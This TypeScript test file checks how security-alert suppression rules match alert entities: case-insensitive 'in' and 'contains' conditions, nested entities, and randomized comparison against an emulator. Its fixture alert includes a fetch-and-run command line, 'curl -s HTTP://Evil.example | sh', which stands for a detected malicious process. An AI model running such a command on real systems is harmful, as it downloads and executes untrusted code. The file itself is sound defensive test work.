import { ruleMatches, suppressionValues } from "../../../Client/Suppression/suppressionMatch";
import type { SuppressionCondition } from "../../../Client/Suppression/suppressionRule";
import { ruleMatches as emulatorMatches } from "../../../Extension/ArmEmulator/World/Security/Suppression/suppressionMatching";
import { createRandom, type Random } from "../../../Extension/ArmEmulator/World/random";
import { suppressionFields } from "../../../Extension/ArmEmulator/World/Security/Suppression/suppressionFields";
import { entityFacts, type EntityFact } from "../../Support/entityFacts";
import { worldsOf } from "../ArmEmulator/worlds";

const entities: readonly unknown[] = [
  {
    $id: "1",
    name: "prod",
    cloudResource: { $id: "2", resourceId: "/subscriptions/S/x/Prod", type: "azure-resource" },
    type: "K8s-cluster",
  },
  { $ref: "2" },
  { $id: "3", address: "203.0.113.7", location: { countryCode: "NL" }, type: "ip" },
  { $id: "4", Address: "198.51.100.9", Type: "IP" },
  {
    $id: "5",
    commandLine: "curl -s HTTP://Evil.example | sh",
    imageFile: { $id: "6", directory: "/tmp", name: "curl", type: "file", host: { $ref: "8" } },
    parentProcess: { $ref: "7" },
    type: "process",
  },
  { $id: "7", imageFile: { $id: "9", name: "bash", type: "file" }, type: "process" },
  { $id: "8", hostName: "aks-node-1", type: "host" },
  { $id: "10", value: "0a0b", type: "file_Hash" },
  { $id: "11", category: "Trojan", type: "Mal Ware" },
  { $id: "12", name: "no kind" },
  { $id: "13", address: "192.0.2.1", type: "ip" },
];
const alert = { alertType: "K8S.NODE_Drift", entities };

const isIn = (field: string, ...values: readonly string[]): SuppressionCondition => ({
  field,
  operator: "in",
  values,
});
const contains = (field: string, ...values: readonly string[]): SuppressionCondition => ({
  field,
  operator: "contains",
  values,
});
const ip = "entities.ip.address";
const resource = "entities.azureresource.resourceid";
const file = "entities.file.name";
const command = "entities.process.commandline";

test.each<readonly [string, string, readonly SuppressionCondition[], boolean]>([
  ["its type, without conditions", "K8S.NODE_Drift", [], true],
  ["its type in other letters", "k8s.node_DRIFT", [], true],
  ["every type", "*", [], true],
  ["another type", "K8S.NODE_Drif", [], false],
  ["no type", "", [], false],
  ["a pattern, which there is not", "K8S.*", [], false],
  ["another type whose conditions would hold", "Other", [isIn(ip, "203.0.113.7")], false],
  ["a value", "*", [isIn(ip, "203.0.113.7")], true],
  ["one of several values", "*", [isIn(ip, "10.0.0.1", "203.0.113.7")], true],
  ["any of several entities, one spelled in PascalCase", "*", [isIn(ip, "198.51.100.9")], true],
  ["the last of several entities", "*", [isIn(ip, "192.0.2.1")], true],
  ["none of the values", "*", [isIn(ip, "10.0.0.1", "10.0.0.2")], false],
  ["no value at all", "*", [isIn(ip)], false],
  ["a part, where in wants all of it", "*", [isIn(ip, "203.0.113.")], false],
  ["more than there is", "*", [isIn(ip, "203.0.113.77")], false],
  ["a part", "*", [contains(ip, "203.0.113.")], true],
  ["more than there is, as a part", "*", [contains(ip, "203.0.113.77")], false],
  ["a part in other letters", "*", [contains(command, "http://EVIL")], true],
  ["all of it in other letters", "*", [isIn(command, "CURL -S http://evil.example | SH")], true],
  ["no pattern: a dot is a dot", "*", [contains(ip, "203.0.113.[0-9]")], false],
  ["a nested entity, its kind spelled without dash", "*", [isIn(resource, "/SUBSCRIPTIONS/s/X/prod")], true],
  ["a kind with an underscore", "*", [isIn("entities.filehash.value", "0A0B")], true],
  ["a kind with a space", "*", [isIn("entities.malware.category", "trojan")], true],
  ["a field in other letters", "*", [isIn("ENTITIES.Host.HOSTNAME", "aks-node-1")], true],
  ["an entity that is nested only", "*", [isIn(file, "curl")], true],
  ["an entity inside of what is referred to", "*", [isIn(file, "bash")], true],
  ["all of several conditions", "*", [isIn(ip, "203.0.113.7"), contains(file, "cur")], true],
  ["all, by different entities of one kind", "*", [isIn(file, "curl"), isIn(file, "bash")], true],
  ["all but one", "*", [isIn(ip, "203.0.113.7"), isIn(file, "zsh")], false],
  ["a kind that the alert does not have", "*", [contains("entities.account.name", "a")], false],
  ["a property that no entity has", "*", [contains("entities.host.dnsdomain", "a")], false],
  ["the value of another property", "*", [isIn("entities.file.directory", "curl")], false],
  ["the value of another kind", "*", [isIn("entities.account.name", "prod")], false],
  ["the value of an object without a kind", "*", [contains("entities..name", "no kind")], false],
  ["a field that is none", "*", [contains("", "a")], false],
])("%s", (_, alertType, conditions, expected) => {
  expect(ruleMatches({ alertType, conditions }, alert)).toBe(expected);
});

test.each<readonly [string, readonly unknown[]]>([
  ["none", []],
  ["nulls and numbers", [null, 7, "ip"]],
  ["a reference to nothing", [{ $ref: "99" }]],
  ["a reference to itself", [{ $id: "1", $ref: "1" }]],
  ["without a kind", [{ address: "203.0.113.7" }]],
  [
    "of a kind that is no text",
    [
      { type: null, address: "203.0.113.7" },
      { type: 7, address: "203.0.113.7" },
    ],
  ],
  ["with a value that is no text", [{ type: "ip", address: { text: "203.0.113.7" } }]],
])("entities that are %s fulfill no condition, and a rule without one fits", (_, odd) => {
  const other = { alertType: "T", entities: odd };
  expect(ruleMatches({ alertType: "T", conditions: [contains(ip, "203")] }, other)).toBe(false);
  expect(ruleMatches({ alertType: "T", conditions: [] }, other)).toBe(true);
});

test("the values on offer are each there once, by field, and each of them alone fits", () => {
  const values = suppressionValues([...entities, { type: "ip", address: "203.0.113.7" }]);
  expect(Object.fromEntries(values)).toEqual({
    "entities.azureresource.resourceid": ["/subscriptions/S/x/Prod"],
    "entities.process.commandline": ["curl -s HTTP://Evil.example | sh"],
    "entities.file.name": ["curl", "bash"],
    "entities.file.directory": ["/tmp"],
    "entities.filehash.value": ["0a0b"],
    "entities.ip.address": ["203.0.113.7", "198.51.100.9", "192.0.2.1"],
    "entities.host.hostname": ["aks-node-1"],
    "entities.malware.category": ["Trojan"],
  });
  for (const [field, texts] of values) {
    for (const text of texts) {
      expect(ruleMatches({ alertType: "*", conditions: [isIn(field, text)] }, alert)).toBe(true);
      expect(ruleMatches({ alertType: "*", conditions: [contains(field, text)] }, alert)).toBe(true);
    }
  }
  expect(suppressionValues([]).size).toBe(0);
});

/** A condition about what some alert has, or nearly. */
function randomCondition(random: Random, facts: readonly EntityFact[]): SuppressionCondition {
  const { field, text } = random.pick(facts);
  const from = random.whole(text.length);
  const asked = random.oneIn(8) ? random.pick(suppressionFields) : field;
  return random.oneIn(2)
    ? isIn(asked, text.toUpperCase(), random.pick(facts).text)
    : contains(asked, text.slice(from, from + 1 + random.whole(text.length - from)));
}

test("random rules match in random worlds what the service's stand-in says, which was written apart", () => {
  const random = createRandom(31);
  let telling = 0;
  for (const { alerts } of worldsOf(undefined, 5)) {
    const all = alerts.map(({ properties }) => ({
      alertType: String(properties.alertType),
      entities: properties.entities as readonly unknown[],
    }));
    const facts = all.flatMap((one) => entityFacts(one.entities));
    for (let round = 0; round < 40; round += 1) {
      const conditions = Array.from({ length: random.whole(3) }, () => randomCondition(random, facts));
      const alertType = random.oneIn(4) ? random.pick(all).alertType.toLowerCase() : "*";
      const wire = conditions.map(({ field, operator, values }) =>
        operator === "in" ? { field, in: values } : { field, contains: values[0] ?? "" },
      );
      const ours = all.map((one) => ruleMatches({ alertType, conditions }, one));
      expect(ours).toEqual(alerts.map((one) => emulatorMatches({ alertType, conditions: wire }, one)));
      telling += ours.includes(true) && ours.includes(false) ? 1 : 0;
    }
  }
  expect(telling).toBeGreaterThan(50);
});

test("everything that an alert of a world says and a rule may ask for is on offer", () => {
  for (const { alerts } of worldsOf(undefined, 5)) {
    for (const { properties } of alerts) {
      const offered = [...suppressionValues(properties.entities as readonly unknown[])].flatMap(
        ([field, texts]) => texts.map((text) => `${field}=${text}`),
      );
      const said = new Set(entityFacts(properties.entities).map(({ field, text }) => `${field}=${text}`));
      expect(new Set(offered)).toEqual(said);
    }
  }
});
